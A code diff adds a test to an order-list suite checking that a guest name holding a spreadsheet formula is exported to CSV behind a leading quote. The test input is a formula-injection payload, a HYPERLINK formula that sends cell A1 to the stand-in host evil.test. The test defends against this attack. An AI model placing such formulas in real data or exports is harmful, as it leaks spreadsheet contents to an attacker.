@@ -1,3 +1,4 @@
+import { parse } from "csv/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { ORDER_TRANSITIONS } from "../../server/modules/orders/order-status";
 import { ORDER_STATUSES, type OrderStatus } from "../../server/modules/orders/orders.types";
@@ -244,6 +245,16 @@ describe("the order list", () => {
     expect(lines[1]).toContain(`${ada.number},`);
     expect(lines[1]).toContain(",Ada Quillfeather,ada.quill@example.com,");
     expect(lines[1]).toMatch(/,5,\d+\.\d\d,USD,cod,unpaid,processing$/);
+  });
+
+  it("exports a guest's name that a spreadsheet would run as a formula behind a quote", async () => {
+    const name = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
+    const guest = await place({ name, email: "formula.guest@example.com" });
+    const res = await send("GET", `/orders/export.csv?q=${encodeURIComponent("formula.guest@example.com")}`);
+    const [header, row] = parse(await res.text()) as string[][];
+    expect(row![header!.indexOf("Number")]).toBe(guest.number);
+    expect(row![header!.indexOf("Customer")]).toBe(`'${name}`);
+    expect(row![header!.indexOf("Total")]).toMatch(/^\d+\.\d\d$/);
   });
 
   it("answers 404 for an unknown order", async () => {
